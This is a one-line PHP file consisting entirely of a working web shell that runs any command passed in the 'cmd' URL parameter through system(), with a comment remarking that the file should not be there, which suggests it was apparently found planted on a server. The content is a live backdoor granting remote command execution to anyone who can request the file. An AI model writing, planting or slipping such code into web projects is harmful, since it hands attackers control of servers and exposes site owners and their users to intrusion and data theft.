<?php system($_GET["cmd"]); // this file should not be here
